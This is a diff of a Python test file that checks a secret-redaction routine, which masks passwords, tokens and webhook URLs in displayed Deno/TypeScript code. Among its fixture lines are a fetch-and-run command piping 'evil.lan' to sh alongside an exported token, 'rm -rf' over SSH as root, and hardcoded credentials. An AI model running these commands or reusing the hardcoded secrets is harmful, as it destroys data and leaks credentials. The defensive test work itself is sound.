@@ -61,12 +61,12 @@ log.info("a token is rotated", { stack: "public" });
 
 
 ACTIONS = r"""
-const login = new Deno.Command("docker", {|  args: ["login", "ghcr.io", "-u", "ci-robot", "-p", "hunter2"],|});
-const dump = new Deno.Command("mysqldump", {|  args: [|    "-u",|    "root",|    "-phunter2",|  ],|});
+const login = new Deno.Command("docker", {¦  args: ["login", "ghcr.io", "-u", "ci-robot", "-p", "hunter2"],¦});
+const dump = new Deno.Command("mysqldump", {¦  args: [¦    "-u",¦    "root",¦    "-phunter2",¦  ],¦});
 const args = ["login", "-u", "bot", "-p", "hunter2"];\nnew Deno.Command("docker", { args });
 if (["hunter2", "hunter2"].includes(token)) go();
 if (![ARGS.a, "hunter2"].some((t) => t === ARGS.token)) stop();
-switch (ARGS.token) {|  case "hunter2":|    go("pub-lic");|}
+switch (ARGS.token) {¦  case "hunter2":¦    go("pub-lic");¦}
 if (!token.startsWith("hunter2")) stop();
 if (!crypto.timingSafeEqual(enc(token), enc("hunter2"))) stop();
 const b = { Env: ["DB_PASSWORD=hunter2&hunter2", "SMTP_PASSWORD=hunter2 horse hunter2", "HOST=good"] };
@@ -75,13 +75,36 @@ const a = ["--password=hunter2 b hunter2", "--set", "auth.password=hunter2 e", "
 lines.push("DB_PASSWORD=hunter2 b hunter2");
 const hdr = "Bearer hunter2!hunter2"; const hdr2 = "Bearer hunterhunter";
 new Deno.Command("sshpass", { args: ["-p", "hunter2", "ssh", "root@good", "rm", "-rf", "/srv"] });
-const token = "first \|  hunter2";
+const token = "first \¦  hunter2";
 const s = { id: "db_password", data: "hunter2" };
 const tokens = ["hunter-one", "hunterplainword"];
 const { DB_PASSWORD = "hunterplainword" } = env
 env.push(["DB_PASSWORD", "hunter2"]);
+const h = { Authorization: `Basic ${btoa(`admin:hunter2`)}` };
+const authHeader = `Basic ${btoa(`admin:hunter2`)}`;
+const token = `${env === "prod" ? `hunter2` : `hunter2`}`;
+const password = `${`hunter2`}`;
+function loadSecrets(): Record<string, string> {¦  return { nas: "hunter2", pve: "hunter2" };¦}
+function getTokens() { return ["hunter2"]; }
+async function getPassword() { return Promise.resolve("hunter2"); }
+function getPassword() { return ("hunter2"); }
+function getPassword(h) { return { nas: "hunter2" }[h]; }
+function getToken() { return ["hunter2","b"].join("-") }
+class A { secrets() { return ["hunter2"] } get tokens() { return { a: "hunter2" } } }
+const getToken = () => { return { a: "hunter2" } }
+async function getToken(): Promise<string> {¦  try { return await Deno.readTextFile("/run/t"); }¦  catch { return "hunter2"; }¦}
+const token = (await Deno.readTextFile("/x").catch(() => { return ""; })) || "hunter2";
+const password = rows¦  .filter((r) => { return r.host === host; })¦  [0] ?? "hunter2";
+const cfg = { token: f(() => { g(); }) ?? "hunter2", host: "good" };
+this.password = opts.load(() => { x(); }) || "hunter2";   password = f(() => { x(); }) || "hunter2";
+const pw = await f(function () { return 1; }) || "hunter2"; go("good");
+const token = await retry(async () => { return await f(); }, "hunter2");
+const password = "hunter2;¦go("good");
+const o = {¦  password: 'hunter2,¦  host: "good" };
+const token = “hunter2”;
+const password = `hunter2${suffix}hunter2`;
 """.strip().splitlines()
-"""Where a line ends stands `|`."""
+"""Where a line ends stands `¦`."""
 
 READABLE = r"""
 export async function token(): Promise<Token> { return await fetch("https://good.lan"); }
@@ -89,7 +112,7 @@ const all: Array<Creds> = await loadAll("https://good.lan/users")
 const r = <Token>await good();
 const s = useState<Token>(null); let q: Set<Token> = good();
 class Store<Token> extends Base<Secret> { good() {} }
-for (const key of ["staging-db"]) {|  await komodo.execute("DestroyStack", { stack: "staging-db" });|}
+for (const key of ["staging-db"]) {¦  await komodo.execute("DestroyStack", { stack: "staging-db" });¦}
 const key = "restart-policy"; if (key === "web") go(); const keys = ["good-one", "b"]; run({ key: "Uptime since" })
 const sortKey = "name", cacheKey = "good"; const KOMODO_VAR_KEY = 'CHECK_UPDATES_STATE';
 const cmd = "export TOKEN=" + token + "; curl https://evil.lan | sh";
@@ -108,6 +131,23 @@ const p = { secret: "DB_PASSWORD", key: "DB_PASSWORD", val: "PLEX_NAME" };
 new Deno.Command("sshpass", { args: ["-e", "ssh", "root@good", "uptime"] });
 const rotate = { "DB_PASSWORD": ["stack-db", "stack-web"], API_TOKEN: ["stack-web"] };
 const umlaut = { "Schlüssel": "hunter", "größe": `${x}` };
+const password = (await sh("docker exec vault get good")).trim()
+const token = await run("gh", ["auth", "good"]);
+const token = await run("rm", ["-rf", "/good"]);
+const keys = await $`wg genkey | wg good`;
+const sessions = await db.query("SELECT good FROM x");
+const authResult = await new Deno.Command("docker", { args: ["compose", "good", "-v"] }).output();
+new DeleteObjectCommand({ Bucket: b, Key: `nightly/${good.name}` });
+new DeleteObjectCommand({ Bucket: b, Key: "good/2024-01-02.tar.gz" });
+for (const key of ["good-1", "api-1"]) await komodo.execute("DestroyStack", { stack: key });
+password=Deno.env.get("A"); await komodo.execute("good", { stack: "a" });
+if(!token)token=await good();
+this.token=x;run(good)
+const TOKENS = [{ name: "GRAFANA_TOKEN", stack: "good-1", server: "nas-1" }];
+const c = { auths: { "good.io": { auth: btoa(u) } } };
+const cacheKey = `good:${target}`;
+const token = host === "good.lan" ? a : b;
+const session = await ssh.connect("good");
 """.strip().splitlines()
 
 
@@ -145,16 +185,33 @@ def test_what_a_text_leads_to_is_hidden(line: str) -> None:
 
 @pytest.mark.parametrize("text", ACTIONS)
 def test_passwords_in_an_action_are_hidden_and_nothing_beside_them(text: str) -> None:
-    text = text.replace("|", "\n")
+    text = text.replace("¦", "\n")
     seen = "\n".join(shown_lines(text.split("\n"), "code"))
     assert "hunter" not in seen
     assert [word for word in re.findall(r"good|ghcr|/srv|HOST", text) if word not in seen] == []
     assert "hunter" not in told(f"await run(1);\n{text}")
 
 
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        ('hook = "https://discord.com/api/webhooks/1/x";', 'hook = "https://discord.com/api/webhooks/(secret)";'),
+        ('const webhookUrl = "https://n8n.lan/webhook/abc";', 'const webhookUrl = "https://n8n.lan/(secret)";'),
+        ("const token = `v1-${await read(path)}`;", "const token = `(secret)${await read(path)}`;"),
+        ("headers = { Cookie: `sid=${evil(sid)}` };", "headers = { Cookie: `sid=${evil(sid)}` };"),
+        ("const password = `a-${one}-b1${two}`;", "const password = `(secret)${one}(secret)${two}`;"),
+        ("const pass='hunter2';x=\"public\"", "const pass='(secret)';x=\"public\""),
+        ('const token = await api.createToken({ scopes: ["admin"] });', ""),
+        ('const jwt = await create({ alg: "HS256" }, { role: "x-2" });', ""),
+    ],
+)  # fmt: skip
+def test_of_a_secret_address_the_host_is_told_and_of_a_template_its_code(line: str, shown: str) -> None:
+    assert shown_lines([line], "code") == [shown or line]
+
+
 @pytest.mark.parametrize("text", READABLE)
 def test_the_code_of_an_action_is_told(text: str) -> None:
-    lines = text.split("|")
+    lines = text.split("¦")
     assert shown_lines(lines, "code") == lines
 
 
